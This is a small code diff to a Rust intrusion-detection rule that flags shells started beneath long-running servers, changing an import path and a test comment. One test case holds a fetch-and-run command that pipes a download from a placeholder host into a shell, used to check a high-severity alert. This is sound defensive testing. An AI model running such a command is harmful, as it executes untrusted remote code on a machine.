@@ -1,6 +1,6 @@
 //! Shells below servers that were there when watching began.
 
-use super::deeds::SUBJECT;
+use super::shell_actions::SUBJECT;
 use crate::detect::alert::{Alert, Alerts};
 use crate::detect::rule_context::RuleContext;
 use crate::detect::rules::bare_shells::{bare, shell};
@@ -94,7 +94,7 @@ mod tests {
         let fetches = &["sh", "-c", "cd /tmp; curl -s http://x/|sh"];
         assert_eq!(below(fetches), Some(Severity::High));
         assert_eq!(below(&["sh", "-c", "convert a.png b.png"]), None);
-        // A program beside the server, not the server, starts it.
+        // Another program, not the server, starts it.
         let mut w = World::found();
         let init = w.init();
         w.found_socket(0, "0.0.0.0:80", None);
